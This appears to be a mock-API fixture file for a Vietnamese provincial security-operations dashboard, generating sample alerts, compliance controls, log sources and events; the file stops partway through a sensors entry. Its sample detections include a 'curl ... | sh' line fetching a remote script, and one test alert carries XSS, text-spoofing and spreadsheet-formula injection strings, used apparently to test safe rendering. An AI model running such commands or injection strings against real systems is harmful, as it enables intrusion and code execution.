// Sample answers of the API, with today's times.
const now = () => Date.now();
const iso = (t) => new Date(t).toISOString();
const MIN = 60_000;
const frame = (total, extra = {}) => ({
  total,
  capped: false,
  as_of: iso(now()),
  stale_after: iso(now() + 60_000),
  next: '',
  ...extra,
});
let seed = 7;
const rnd = () => {
  seed = (seed * 16807) % 2147483647;
  return seed / 2147483647;
};
export const state = {
  first: process.env.FIRST === '1',
  notify: () => undefined,
  loggedIn: process.env.FIRST !== '1',
  lang: 'vi',
  theme: 'light',
};

const systemNames = [
  'Cổng dịch vụ công',
  'CSDL hộ tịch',
  'Quản lý văn bản',
  'Trung tâm dữ liệu',
  'Mạng nội bộ sở',
  'VPN dùng chung',
  'Báo cáo tổng hợp',
  'Quản lý tài chính',
  'Hồ sơ sức khỏe',
  'Cấp phép xây dựng',
  'Một cửa điện tử',
  'Thư điện tử công vụ',
];
const placements = ['data_centre', 'cloud', 'internet'];
const posture = (i) => ['met', 'not_met', 'unknown', 'not_met', 'met', 'unknown', 'met'][i % 7];
const orgLayers = [
  ['onsite', 'Lực lượng tại chỗ', 'On-site force'],
  ['monitoring', 'Giám sát, bảo vệ chuyên nghiệp', 'Professional monitoring and protection'],
  ['assessment', 'Độc lập kiểm tra, đánh giá định kỳ', 'Independent periodic assessment'],
  ['national', 'Kết nối hệ thống giám sát quốc gia', 'Link to the national monitoring system'],
];
const techLayers = [
  ['network', 'Mạng', 'Network'],
  ['application', 'Ứng dụng', 'Application'],
  ['database', 'Cơ sở dữ liệu', 'Database'],
  ['endpoint', 'Thiết bị đầu cuối', 'Endpoint'],
];
const steps = [
  { vi: 'Trên dvc-app-04, kiểm tra dịch vụ chrony.', en: 'Check chrony on dvc-app-04.' },
  { vi: 'Trỏ về 10.20.0.5, nguồn giờ của tỉnh.', en: 'Point it to 10.20.0.5.' },
  { vi: 'Đúng giờ trở lại thì ô tự đổi.', en: 'Once the time is right the cell turns by itself.' },
];
const layersOf = (i) =>
  orgLayers.map(([id, vi, en], k) => {
    const score = [2, 3, 1, 3][(i + k) % 4];
    return {
      id,
      title: { vi, en },
      full: { vi: `Tổ chức hoặc thuê doanh nghiệp: ${vi.toLowerCase()}`, en },
      score,
      state: score >= 2 ? 'met' : 'not_met',
      since: iso(now() - 40 * MIN),
      because: [
        {
          code: 'x',
          text: {
            vi: k === 2 ? 'Hết hạn sau 18 ngày' : 'Tự động, 2 phút trước',
            en: k === 2 ? 'Expires in 18 days' : 'Automatic, 2 min ago',
          },
        },
      ],
      fix: score >= 2 ? [] : steps,
    };
  });
const techOf = (i) =>
  techLayers.map(([id, vi, en], k) => ({
    id,
    title: { vi, en },
    full: { vi, en },
    score: 0,
    state: ['met', 'met', 'unknown', 'not_met'][(i + k) % 4],
    share: (i + k) % 4 === 2 ? undefined : [1, 0.96, 0, 0.62][(i + k) % 4],
    since: iso(now() - 17 * MIN),
    because: [
      {
        code: 'x',
        text:
          (i + k) % 4 === 2
            ? { vi: 'Mất tin 17 phút, không kết luận', en: 'No data for 17 min, no conclusion' }
            : { vi: '3/3 nguồn, 2 giây trước', en: '3/3 sources, 2 s ago' },
      },
    ],
    fix: (i + k) % 4 < 2 ? [] : steps,
  }));
const transition = {
  kind: 'transition',
  due: '2027-06-29T17:00:00Z',
  days: 220,
  approx: true,
  text: { vi: 'đáp ứng điều kiện mới', en: 'to meet the new conditions' },
  law: { document: 'Luật 116', article: 'Đ45.1', mark: 'V' },
};
export const systems = Array.from({ length: 46 }, (_, i) => ({
  id: `HT-${String(i + 1).padStart(3, '0')}`,
  name:
    i < systemNames.length ? systemNames[i] : `${systemNames[i % systemNames.length]} ${Math.floor(i / systemNames.length) + 1}`,
  unit: { id: 'DV-01', name: 'Văn phòng UBND tỉnh' },
  operator: { id: 'DV-02', name: 'Trung tâm CNTT' },
  level: [3, 2, 2, 3, 2, 1, 2][i % 7],
  basis: 'tcvn11930',
  placement: i < 18 ? 'data_centre' : i < 28 ? 'cloud' : 'internet',
  dossier: 'approved',
  plan: 'partial',
  demo: true,
  version: 1,
  state: posture(i),
  layers: layersOf(i),
  technical: techOf(i),
  controls: { met: 98 - i, not_met: 29, unknown: 27 + i, not_applicable: 4 },
  telemetry_at: iso(now() - (i % 9) * 3 * MIN),
  transition,
  open_alerts: (i * 3) % 10,
}));
const ref = (s) => ({ id: s.id, name: s.name, level: s.level, demo: s.demo });
const alertRows = [
  ['critical', 96, 'Tiến trình web sinh shell lệnh', 'Web process spawned a shell', 'dvc-web-02 · nginx → sh → curl', 3, 1, 0],
  [
    'critical',
    93,
    'Một tài khoản xuất 4.812 hồ sơ trong 20 phút',
    'One account exported 4,812 records in 20 minutes',
    'ht-db-01 · tài khoản tk:9F2K · 10.20.7.31',
    1,
    6,
    1,
  ],
  [
    'high',
    81,
    'Dò mật khẩu SSH rồi đăng nhập được',
    'SSH guessing followed by a log-in',
    '203.0.113.47 → qlvb-app-01',
    1284,
    9,
    2,
  ],
  ['high', 78, 'Nguồn im lặng: tường lửa vùng DMZ', 'Silent source: DMZ firewall', 'fw-dmz-01 · không có kết nối 6514', 1, 17, 3],
  ['high', 74, 'Truy vấn DNS dạng đường hầm', 'DNS tunnelling', 'ws-nnmt-114 → *.x9-tunnel.example', 612, 22, 4],
  ['high', 72, 'Tài khoản đã thôi việc đăng nhập VPN', 'Leaver logged in to VPN', 'tk:4QX1 · 198.51.100.9 → vpn-01', 2, 31, 5],
  ['medium', 58, 'Máy chủ mở cổng nghe mới', 'Server opened a new port', 'bc-app-03 · 0.0.0.0:4444 · python3', 1, 38, 6],
  [
    'medium',
    55,
    'Kết nối ra Internet dùng chứng chỉ tự ký',
    'Outbound with self-signed certificate',
    'ws-tc-022 → 198.51.100.77:8443',
    18,
    44,
    7,
  ],
  ['medium', 52, 'Đồng hồ máy chủ lệch 94 giây', 'Server clock off by 94 s', 'yt-his-04 · so với 10.20.0.5', 1, 52, 8],
  ['medium', 47, 'Quét cổng nội bộ từ máy trạm', 'Internal port scan', 'ws-xd-031 → 10.30.4.0/24 · 254 máy', 1, 61, 9],
  ['low', 31, 'Đăng nhập quản trị ngoài giờ', 'Out-of-hours admin log-in', 'tk:1B7M · 10.20.1.15 → dvc-adm-01', 4, 66, 0],
  [
    'informational',
    12,
    'Bản tin thử <img src=x onerror=alert(1)>',
    'Test <img src=x onerror=alert(1)>',
    'a\u202Egnp.exe \u001b[31m <script>alert(1)</script> =HYPERLINK("x")',
    9,
    70,
    2,
  ],
];
export const alerts = Array.from({ length: 146 }, (_, i) => {
  const [severity, score, vi, en, evidence, count, ago, s] = alertRows[i % alertRows.length];
  const k = Math.floor(i / alertRows.length);
  const last = now() - (ago + k * 47) * MIN;
  const taken = i % 12 === 3 || i % 12 === 8;
  return {
    id: `a${String(i).padStart(25, '0')}`,
    number: `CB-2026-${String(18842 - i).padStart(6, '0')}`,
    rule: 'f0f4d1c0-0000-4000-8000-00000000000' + (i % 10),
    title: { vi, en },
    severity,
    score: Math.max(1, score - k),
    state: taken ? 'acknowledged' : 'new',
    system: ref(systems[s]),
    unit: systems[s].unit,
    source: 'NG-0001',
    host: evidence.split(' ')[0],
    address: '10.20.4.12',
    holder: taken ? { id: 'p2', name: 'Trực ban 2' } : undefined,
    first: iso(last - 13 * MIN),
    last: iso(last),
    created: iso(last - 13 * MIN),
    changed: iso(last),
    count,
    evidence,
    attack: ['T1505.003'],
    demo: i % 5 === 4,
    exercise: false,
    version: 1,
  };
}).sort((a, b) => b.score - a.score || (a.last < b.last ? 1 : -1));
const views = () => {
  const open = alerts.filter((a) => a.state !== 'closed');
  return {
    unacknowledged: open.filter((a) => a.state === 'new').length,
    mine: 3,
    high: open.filter((a) => a.score > 70).length,
    personal: 2,
    open: open.length,
    closed: alerts.length - open.length,
    exercise: 5,
  };
};
const detail = (a) => ({
  ...a,
  score_parts: { severity: 60, level: 20, exposure: 10, repetition: 6 },
  group: [],
  trace: [
    { search: 'selection', field: 'process.parent.name', op: 'equals', want: 'nginx', got: 'nginx', matched: true },
    { search: 'selection', field: 'process.name', op: 'equals', want: 'sh', got: 'sh', matched: true },
    {
      search: 'selection',
      field: 'process.command_line',
      op: 'contains',
      want: 'curl ',
      got: 'sh -c curl -fsSL http://198.51.100.23/a.sh | sh',
      matched: true,
    },
    { search: 'filter', field: 'process.command_line', op: 'contains', want: 'healthcheck', matched: false, negated: true },
  ],
  why: {
    vi: 'Máy vừa chạy shell từ tiến trình nginx. Đây thường là dấu hiệu máy chủ web đã bị chiếm quyền.',
    en: 'nginx started a shell. This is usually the sign of a taken-over web server.',
  },
  runbook: {
    vi: [
      'Xem cây tiến trình, xác định tệp vừa tải về',
      'Gọi đơn vị vận hành, đề nghị tách máy khỏi cân bằng tải',
      'Giữ nguyên chứng cứ, mở vụ việc, bắt đầu tính giờ',
    ],
    en: [
      'Look at the process tree, find the downloaded file',
      'Call the operator, take the host out of the balancer',
      'Keep the evidence, open a case',
    ],
  },
  rule_info: undefined,
  events: Array.from({ length: 4 }, (_, i) => ({
    'event.id': `e${i}`,
    '@timestamp': iso(Date.parse(a.last) - i * MIN),
    'process.parent.name': 'nginx',
    'process.command_line': 'sh -c curl -fsSL http://198.51.100.23/a.sh | sh',
    'host.name': a.host,
    message: 'evil \u202E text \u001b[0m',
  })),
  event_ids: [],
  history: [
    { time: a.created, actor: { id: 'system', name: '' }, action: 'created' },
    {
      time: a.last,
      actor: { id: 'p1', name: 'Trực ban 1' },
      action: 'note',
      text: '✓ 1. Xem cây tiến trình, xác định tệp vừa tải về',
    },
  ],
  deliveries: [
    {
      id: 'BC-aaa7c1e',
      kind: 'alert',
      channel: 'json',
      state: 'accepted',
      created: a.created,
      accepted: a.created,
      tries: 1,
      receipt: { id: 'r', received: a.created, digest: '9f2c', key: 'k1', verified: true },
    },
  ],
  seen: { times: 2, closed_as: { false_alarm: 1 } },
  deeds: ['acknowledge', 'assign', 'close', 'reopen', 'note'],
  as_of: iso(now()),
  stale_after: iso(now() + 60_000),
});
const groupsDef = [
  ['operation', 'Vận hành', 'Operation', 45],
  ['network', 'Mạng', 'Network', 38],
  ['server', 'Máy chủ', 'Server', 20],
  ['people', 'Nhân sự', 'People', 7],
  ['design', 'Thiết kế, xây dựng', 'Design', 11],
  ['application', 'Ứng dụng', 'Application', 19],
  ['policy', 'Chính sách', 'Policy', 3],
  ['risk', 'Quản lý rủi ro', 'Risk', 3],
  ['organisation', 'Tổ chức', 'Organisation', 4],
  ['end', 'Kết thúc vận hành', 'End of operation', 1],
  ['data', 'Dữ liệu', 'Data', 7],
];
const stateList = ['met', 'met', 'met', 'not_met', 'met', 'unknown', 'met', 'met', 'unknown', 'met', 'not_met', 'met'];
const controls = groupsDef.flatMap(([g, vi, en, n]) =>
  Array.from({ length: n }, (_, i) => ({
    id: `L3-${g.slice(0, 3).toUpperCase()}-${String(i + 1).padStart(2, '0')}`,
    group: g,
    title: {
      vi: i === 8 && g === 'server' ? 'Đồng bộ thời gian máy chủ' : `${vi} yêu cầu ${i + 1}`,
      en: `${en} requirement ${i + 1}`,
    },
    requirement: { vi: 'Máy chủ theo máy chủ thời gian.', en: 'Servers follow the time server.' },
    parameter: { vi: 'nên ≤ 1 giây', en: 'advise <= 1 s' },
    mode: ['auto', 'semi', 'attest'][i % 3],
    how: { vi: 'Độ lệch từng máy.', en: 'Skew per host.' },
    clauses: { tcvn11930: '7.2.2.3', tcvn14423: '5.8.2.1a' },
    basis: [
      { part: 'clause', document: 'TCVN 11930:2017', article: '7.2.2.3', mark: 'V' },
      {
        part: 'clause',
        document: 'TCVN 14423:2026',
        article: '5.8.2.1a',
        mark: 'V2',
        note: { vi: 'sản phẩm đối chiếu điều khoản', en: 'clause mapped by us' },
      },
      {
        part: 'text',
        document: '',
        article: '',
        mark: 'M',
        note: { vi: 'Lời văn yêu cầu do sản phẩm viết lại', en: 'Wording of the requirement, restated by us' },
      },
      {
        part: 'figure',
        document: '',
        article: '',
        mark: 'own',
        note: { vi: 'Đề xuất của sản phẩm, không phải quy định', en: 'Our proposal, not law' },
      },
    ],
    checked: i % 4 !== 0,
  })),
);
const postureOf = (s, at) => {
  seed = 11;
  const findings = controls.map((c, i) => {
    const st = c.group === 'end' ? 'not_applicable' : stateList[Math.floor(rnd() * 12)];
    return {
      control: c.id,
      title: c.title,
      group: c.group,
      state: st,
      since: iso(now() - 52 * MIN - i * 3 * MIN),
      computed: iso(now() - 5000),
      last_known: st === 'unknown' ? 'met' : undefined,
      mode: c.mode,
      because: [
        {
          code: 'x',
          text: { vi: '1 trong 6 máy chủ lệch 94 giây, ngưỡng 1 giây', en: '1 of 6 servers is off by 94 s, limit 1 s' },
        },
      ],
      evidence: [
        { id: 'clock/dvc-app-04', at: iso(now() - MIN), max_age_ms: 600_000, expired: st === 'unknown', value: 'offset=94s' },
      ],
      fix: st === 'met' || st === 'not_applicable' ? [] : steps,
      from: iso(now() - 52 * MIN - i * 3 * MIN),
      policy: '6c8719e90c0c',
    };
  });
  const count = (l) => ({
    met: l.filter((f) => f.state === 'met').length,
    not_met: l.filter((f) => f.state === 'not_met').length,
    unknown: l.filter((f) => f.state === 'unknown').length,
    not_applicable: l.filter((f) => f.state === 'not_applicable').length,
  });
  return {
    system: ref(s),
    at: iso(at ?? now()),
    past: Boolean(at),
    computed: iso(now() - 5000),
    basis: 'tcvn11930',
    counts: count(findings),
    groups: groupsDef.map(([id, vi, en]) => ({
      id,
      title: { vi, en },
      counts: count(findings.filter((f) => f.group === id)),
      items: findings.filter((f) => f.group === id).map((f) => f.control),
    })),
    findings,
    layers: layersOf(0),
    technical: techOf(0),
    transition,
    ...frame(158),
  };
};
const sourceStates = ['silent', 'silent', 'garbled', 'garbled', 'thin', 'thin', 'thin', 'skewed', 'never'];
const sources = Array.from({ length: 214 }, (_, i) => ({
  id: `NG-${String(i + 1).padStart(4, '0')}`,
  name: i === 0 ? 'fw-dmz-01' : `may-${i}`,
  kind: ['syslog', 'bulk', 'sensor', 'self'][i % 4],
  system: ref(systems[i % 46]),
  address: `10.20.${i % 8}.${i}`,
  dataset: 'linux.auth',
  layers: ['network'],
  state: sourceStates[i] ?? 'receiving',
  since: iso(now() - (17 + i) * MIN),
  cause:
    i === 0
      ? {
          code: 'no_connection',
          text: {
            vi: 'ngừng gửi từ 22:29; cổng 6514 không có kết nối; máy còn trả lời',
            en: 'stopped at 22:29; no connection on 6514; the host still answers',
          },
        }
      : undefined,
  first_event: iso(now() - 90 * 86400_000),
  last_event: i === 8 ? undefined : iso(now() - (i < 2 ? 17 * MIN : 4000)),
  rate: i < 2 ? 0 : 420 + i,
  usual: 430,
  unparsed: i < 4 ? 0.12 : 0.001,
  offset_ms: i === 7 ? 94_000 : 3,
  total: 1_200_000 + i,
  auto: i % 50 === 10,
  demo: i % 3 === 0,
  version: 1,
}));
const srcCounts = {
  state: 'bad',
  total: 214,
  receiving: 205,
  thin: 3,
  silent: 2,
  skewed: 1,
  garbled: 2,
  never: 1,
  oldest: { id: 'NG-0001', name: 'fw-dmz-01', since: iso(now() - 17 * MIN) },
};
const ledgerRow = (m, src) => ({
  minute: iso(m),
  source: src ?? { id: '', name: '' },
  received: 110_536,
  stored: 109_871,
  quarantined: 214,
  rejected: 6,
  duplicate: 0,
  dropped: 0,
  in_flight: 445,
  difference: 0,
  checked: m < now() - 2 * MIN,
  reasons: { 'quarantined:json': 200, 'quarantined:oversize': 14, 'rejected:certificate': 6 },
});
const minute = () => Math.floor(now() / MIN) * MIN;
const nationalStatus = () => ({
  state: 'good',
  last_receipt: iso(now() - 12_000),
  waiting: 3,
  refused: 0,
  oldest_waiting: iso(now() - 8000),
});
const day = (d) => new Date(now() + 7 * 3600_000 - d * 86400_000).toISOString().slice(0, 10);
const outbox = Array.from({ length: 60 }, (_, i) => ({
  id: `BC-${i}x7c1e`,
  order: 18842 - i,
  kind: ['alert', 'alert_update', 'heartbeat'][i % 3],
  subject: alerts[i].number,
  system: ref(systems[i % 12]),
  channel: 'json',
  created: iso(now() - i * 5 * MIN),
  state: i < 3 ? 'waiting' : 'accepted',
  tries: 1,
  next_try: i < 3 ? iso(now() + 20_000) : undefined,
  last_error: i === 1 ? '503 Service Unavailable: máy chủ bận' : undefined,
  accepted: i < 3 ? undefined : iso(now() - i * 5 * MIN + 2000),
  receipt:
    i < 3
      ? undefined
      : { id: `r${i}`, received: iso(now() - i * 5 * MIN + 2000), digest: '9f2c41d0aa', key: 'k1', verified: true },
  size: 912,
  demo: true,
}));
const rules = Array.from({ length: 90 }, (_, i) => ({
  id: `f0f4d1c0-0000-4000-8000-00000000000${i}`,
  version: 'ab12cd34ef56',
  title: { vi: alertRows[i % 12][2], en: alertRows[i % 12][3] },
  severity: alertRows[i % 12][0],
  status: 'stable',
  state: i < 3 ? 'refused' : 'running',
  attack: ['T1505.003'],
  tags: [],
  origin: i % 2 ? 'hoalu' : 'sigmahq',
  file: `linux/process_creation/rule_${i}.yml`,
  logsource: { product: 'linux', category: 'process_creation' },
  alerts_30d: i * 3,
  reason: i < 3 ? 'dòng 14: modifier "expand" không thực hiện được chính xác' : undefined,
}));
const deeds = [
  'me.read',
  'me.write',
  'alerts.read',
  'alerts.note',
  'alerts.acknowledge',
  'alerts.assign',
  'alerts.close',
  'alerts.reopen',
  'events.search',
  'systems.read',
  'posture.read',
  'inventory.write',
  'sources.read',
  'sources.write',
  'sources.key',
  'ledger.read',
  'quarantine.read',
  'quarantine.replay',
  'rules.read',
  'national.read',
  'national.test',
  'national.act',
  'national.endpoint',
  'audit.read',
  'accounts.read',
  'accounts.write',
  'tokens.read',
  'tokens.write',
  'parts.read',
];
const preferences = { language: '', theme: '', density: 'normal', keys: true };
const me = () => ({
  id: 'p1',
  login: 'trucban1',
  name: 'Trực ban 1',
  roles: ['analyst', 'administrator'],
  two_roles: process.env.TWO === '1',
  permissions: {
    pages: {
      overview: 'write',
      alerts: 'write',
      search: 'write',
      systems: 'write',
      sources: 'write',
      ledger: 'read',
      rules: 'read',
      national: 'write',
      audit: 'read',
      admin: 'write',
    },
    deeds,
  },
  preferences,
  site: { name: 'SOC tỉnh', zone: 'Asia/Ho_Chi_Minh', version: '0.1', first: false },
  recovery_codes_left: 10,
  checklist: process.env.CHECKLIST
    ? [
        { id: 'events', done: true, text: { vi: 'Máy này đang gửi sự kiện', en: 'This host sends events' } },
        { id: 'exercise', done: false, text: { vi: 'Chạy thử diễn tập (hoalu try)', en: 'Run hoalu try' }, page: 'alerts' },
        { id: 'source', done: false, text: { vi: 'Thêm nguồn đầu tiên', en: 'Add the first source' }, page: 'sources' },
      ]
    : [],
  now: iso(now()),
});
const page = (items, extra) => ({ body: { items, ...frame(items.length), ...extra } });
const event = (i) => ({
  'event.id': `e${i}`,
  '@timestamp': iso(now() - i * 7000),
  'event.created': iso(now() - i * 7000 + 200),
  'hoalu.system.id': systems[i % 12].id,
  'hoalu.source.id': 'NG-0002',
  'host.name': 'dvc-web-02',
  'event.category': i % 3 ? 'process' : 'network',
  'process.parent.name': i % 3 ? 'nginx' : undefined,
  'process.command_line': i % 3 ? 'sh -c curl -fsSL http://198.51.100.23/a.sh | sh' : undefined,
  'source.ip': `10.20.4.${i % 250}`,
  'destination.ip': '198.51.100.23',
  'user.name': 'www-data',
  message: i % 10 === 4 ? 'x\u202Egnp.exe\u001b[31m' : 'message text',
});

export function answer(method, url, body) {
  const p = url.pathname;
  const q = url.searchParams;
  const limit = Number(q.get('limit') || 100);
  if (p === '/api/site')
    return { body: { name: 'SOC tỉnh', unit: 'Công an tỉnh', zone: 'Asia/Ho_Chi_Minh', version: '0.1', first: state.first } };
  if (p === '/api/login') {
    if (body.password === 'wrong')
      return {
        status: 401,
        body: { status: 401, code: 'login', detail: 'Tên hoặc mật khẩu chưa đúng. Còn 4 lần trước khi khóa 15 phút.' },
      };
    state.loggedIn = true;
    return { body: me() };
  }
  if (p === '/api/first/start')
    return {
      body: {
        kind: 'first',
        site: { name: '', zone: '', version: '', first: true },
        totp_secret: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP',
        totp_url: 'otpauth://totp/Hoa%20Lu:quantri?secret=JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP&issuer=Hoa%20Lu',
        totp_qr: '',
        expires: iso(now() + 900_000),
      },
    };
  if (p === '/api/first') {
    state.loggedIn = true;
    return { body: { recovery_codes: Array.from({ length: 10 }, (_, i) => `k7f2-9xq${i}-mm3w`), me: me() } };
  }
  if (!state.loggedIn) return { status: 401, body: { status: 401, code: 'no_session', detail: 'x' } };
  if (p === '/api/me') return { body: me() };
  if (p === '/api/me/preferences') return { body: { done: true } };
  if (p === '/api/logout') {
    state.loggedIn = false;
    return { body: { done: true } };
  }
  if (p === '/api/status')
    return {
      body: {
        ledger: { state: 'balanced', minute: iso(minute() - 2 * MIN), difference: 0, since: iso(now() - 41 * 86400_000) },
        sources: srcCounts,
        national: nationalStatus(),
        disk: { state: 'good', total_bytes: 2e12, free_bytes: 1.2e12, days: 41.3 },
        clock: { state: 'good', offset_ms: 3, now: iso(now()) },
        events: { per_second: 1842, total: 2_100_000_000, last: iso(now()) },
        alerts: { new: views().unacknowledged, mine: 3, high: views().high, personal: 2, open: views().open },
        parts: [],
        as_of: iso(now()),
        stale_after: iso(now() + 30_000),
      },
    };
  if (p === '/api/overview') {
    const hour = Math.floor(now() / 3600_000) * 3600_000;
    seed = 5;
    return {
      body: {
        cards: ['alerts', 'sources', 'national', 'hours', 'next', 'systems', 'ledger'],
        shift: { kind: 'night', from: iso(now() - 3 * 3600_000), to: iso(now() + 5 * 3600_000) },
        alerts: {
          new: views().unacknowledged,
          mine: 3,
          high: 6,
          personal: 2,
          open: views().open,
          oldest_new: iso(now() - 120 * MIN),
          today: 187,
          closed_today: 141,
          acknowledge_mean_seconds: 130,
        },
        hours: {
          from: iso(hour - 23 * 3600_000),
          to: iso(hour + 3600_000),
          buckets: Array.from({ length: 24 }, (_, i) => ({
            start: iso(hour - (23 - i) * 3600_000),
            unknown: i === 4 || i === 5,
            counts:
              i === 4 || i === 5
                ? {}
                : {
                    informational: Math.floor(rnd() * 6),
                    low: Math.floor(rnd() * 8),
                    medium: Math.floor(rnd() * 5),
                    high: Math.floor(rnd() * 2.2),
                    critical: i > 20 ? 1 : 0,
                  },
          })),
        },
        next: alerts.filter((a) => a.state !== 'closed').slice(0, 7),
        systems: {
          total: 46,
          placements: placements.map((pl) => ({
            placement: pl,
            counts: {},
            tiles: systems
              .filter((s) => s.placement === pl)
              .map((s) => ({ id: s.id, name: s.name, level: s.level, state: s.state, demo: true })),
          })),
        },
        sources: srcCounts,
        ledger: { state: 'balanced', minute: iso(minute() - 2 * MIN), difference: 0, row: ledgerRow(minute() - 2 * MIN) },
        national: nationalStatus(),
        as_of: iso(now()),
        stale_after: iso(now() + 60_000),
      },
    };
  }
  if (p === '/api/alerts/actions') {
    const done = [];
    for (const { id } of body.alerts) {
      const a = alerts.find((x) => x.id === id || x.number === id);
      if (!a) continue;
      a.version++;
      if (body.action === 'close')
        Object.assign(a, { state: 'closed', close_reason: body.reason, closed: iso(now()), closed_by: 'Trực ban 1' });
      if (body.action === 'acknowledge') Object.assign(a, { state: 'acknowledged', holder: { id: 'p1', name: 'Trực ban 1' } });
      if (body.action === 'reopen') Object.assign(a, { state: 'new', reopened: true, close_reason: '' });
      done.push(a);
    }
    return { body: { done, conflicts: [], missing: [], undo: 'u1', undo_until: iso(now() + 10_000) } };
  }
  if (p === '/api/undo') {
    const done = alerts
      .filter((a) => a.state === 'closed')
      .map((a) => Object.assign(a, { state: 'new', close_reason: '', version: a.version + 1 }));
    return { body: { done } };
  }
  if (p === '/api/alerts') {
    const view = q.get('view') ?? 'open';
    let rows = alerts.filter((a) =>
      view === 'closed'
        ? a.state === 'closed'
        : view === 'unacknowledged'
          ? a.state === 'new'
          : view === 'all' || a.state !== 'closed',
    );
    const text = q.get('q');
    if (text) rows = rows.filter((a) => JSON.stringify(a).toLowerCase().includes(text.toLowerCase()));
    if (q.get('sev')) rows = rows.filter((a) => q.get('sev').split(',').includes(a.severity));
    if (q.get('from') && q.get('sort') === '-last' && process.env.WAITING)
      rows = Array.from({ length: 12 }, (_, i) => ({ ...alerts[0], id: `new${i}`, created: iso(now()) }));
    const start = Number(q.get('after') || 0);
    const groups =
      q.get('group') && !q.get('group_key')
        ? alertRows.map((r, i) => ({
            key: `g${i}`,
            label: r[4].split(' ')[0],
            title: { vi: r[2], en: r[3] },
            count: 12,
            severity: r[0],
            score: r[1],
            first: iso(now() - 3600_000),
            last: iso(now() - i * MIN),
          }))
        : undefined;
    const items = q.get('group_key') ? rows.slice(0, 3) : groups ? [] : rows.slice(start, start + limit);
    return {
      body: {
        items,
        groups,
        views: views(),
        hidden: 0,
        today: { made: 187, closed: 141, acknowledge_mean_seconds: 130 },
        ...frame(rows.length, { next: start + limit < rows.length ? String(start + limit) : '' }),
      },
    };
  }
  let m;
  if ((m = /^\/api\/alerts\/(.+)$/.exec(p))) {
    const a = alerts.find((x) => x.id === m[1] || x.number === m[1]);
    return a ? { body: detail(a) } : { status: 404, body: { status: 404, code: 'not_found', detail: 'x' } };
  }
  if (p === '/api/events/fields')
    return {
      body: {
        items: [
          'source.ip',
          'user.name',
          'host.name',
          'process.name',
          'process.command_line',
          'event.category',
          'destination.ip',
          'dns.question.name',
        ].map((name, i) => ({
          name,
          fill: 1 - i * 0.11,
          count: 214 - i * 20,
          kind: 'string',
          top: Array.from({ length: 6 }, (_, k) => ({ key: `${name.split('.')[1]}-${k}`, count: 900 - k * 120 })),
        })),
        sampled: 1000,
        ...frame(8),
      },
    };
  if (p === '/api/events') {
    const from = Number(q.get('from')) || Date.parse(q.get('from') ?? '') || now() - 86400_000;
    const to = Number(q.get('to')) || Date.parse(q.get('to') ?? '') || now();
    if (q.get('query')?.endsWith('('))
      return {
        status: 400,
        body: {
          status: 400,
          code: 'query_syntax',
          detail: 'Cột 4: thiếu ngoặc đóng.',
          do: 'Thêm “)” hoặc bỏ “(” ở cột 4.',
          fields: [{ name: 'query', detail: 'thiếu ngoặc đóng', column: 4 }],
        },
      };
    const n = q.get('histogram') === '1m' ? 20 : 48;
    const step = Math.ceil((to - from) / n / MIN) * MIN;
    const start = Math.floor(from / step) * step;
    seed = 3;
    const buckets = Array.from({ length: n }, (_, i) => ({
      key: iso(start + i * step),
      count: i > 20 && i < 25 && n > 20 ? 0 : Math.floor(rnd() * rnd() * 900),
    }));
    const at = Number(q.get('after') || 0);
    return {
      body: {
        events: Array.from({ length: Math.min(limit, 100) }, (_, i) => event(i + at)),
        histogram: q.get('histogram')
          ? { interval_ms: step, buckets, gaps: n > 20 ? [{ from: iso(start + 21 * step), to: iso(start + 25 * step) }] : [] }
          : undefined,
        scanned: 2_100_000,
        took_ms: 41,
        query: q.get('query') ?? '',
        missing_sources: [
          { id: 'NG-0001', name: 'fw-dmz-01' },
          { id: 'NG-0002', name: 'may-1' },
        ],
        ...frame(48_213, { next: String(at + 100) }),
      },
    };
  }
  if (p === '/api/searches' && method === 'POST')
    return { body: { sq: 'k3f9', query: body.query, identifiers: [], created: iso(now()) } };
  if (p === '/api/searches')
    return page([
      { sq: 'k3f9', query: 'event.category:authentication', name: 'Đăng nhập thất bại', identifiers: [], created: iso(now()) },
    ]);
  if (p === '/api/systems' && method === 'GET')
    return {
      body: {
        items: systems,
        sum: { met: 2431, not_met: 812, unknown: 640, not_applicable: 90 },
        views: { all: 46, level3: 7, unknown: 12, internet: 18, soon: 2 },
        ...frame(46),
      },
    };
  if ((m = /^\/api\/systems\/([^/]+)\/posture\/(?:changes|compare)$/.exec(p)))
    return page(
      Array.from({ length: 40 }, (_, i) => ({
        control: controls[i * 3].id,
        title: controls[i * 3].title,
        at: iso(now() - i * 4 * 86400_000),
        from: ['met', 'unknown', 'not_met'][i % 3],
        to: ['unknown', 'met', 'met'][i % 3],
        because: [],
      })),
    );
  if ((m = /^\/api\/systems\/([^/]+)\/posture$/.exec(p)))
    return {
      body: postureOf(systems.find((s) => s.id === m[1]) ?? systems[0], q.get('at') ? Date.parse(`${q.get('at')}T16:59:59Z`) : 0),
    };
  if ((m = /^\/api\/systems\/([^/]+)$/.exec(p))) {
    const s = systems.find((x) => x.id === m[1]);
    return s
      ? {
          body: {
            ...s,
            assets: [
              { id: 'TS-0001', host: 'dvc-web-02', address: '10.20.4.12', zone: 'DMZ', kind: 'server', demo: true, version: 1 },
            ],
            sources: sources.slice(0, 7),
            deeds,
          },
        }
      : { status: 404, body: { status: 404, code: 'not_found' } };
  }
  if (p === '/api/controls') return page(controls);
  if (p === '/api/units') return page([{ id: 'DV-01', name: 'Văn phòng UBND tỉnh', kind: 'department', version: 1 }]);
  if (p === '/api/sources' && method === 'GET')
    return {
      body: { items: sources.filter((s) => !q.get('state') || s.state === q.get('state')), counts: srcCounts, ...frame(214) },
    };
  if ((m = /^\/api\/sources\/([^/]+)$/.exec(p)) && method === 'GET')
    return {
      body: {
        ...sources.find((s) => s.id === m[1]),
        minutes: Array.from({ length: 144 }, (_, i) => ({
          start: iso(now() - (144 - i) * 10 * MIN),
          received: i > 140 ? 0 : 4000 + Math.floor(rnd() * 900),
          known: i < 60 || i > 70,
        })),
        keys: [{ id: 'kh-0a1b2c3d4e', kind: 'key', label: 'web-01', by: 'Trần Thị Bình', made: '2026-11-20T02:00:00Z', used: '2026-11-20T02:05:00Z' }],
        last_raw: '<134>Nov 21 22:29:01 fw-dmz-01 kernel: \u001b[31mDROP IN=eth0',
        controls: [{ id: 'L3-NET-04', name: 'Mạng yêu cầu 4' }],
        deeds: ['sources.write'],
      },
    };
  if (p === '/api/sensors')
    return page([
      {
        id: 'CB1',
        name: 'sensor-dc-01',
        host: 'dc-01',
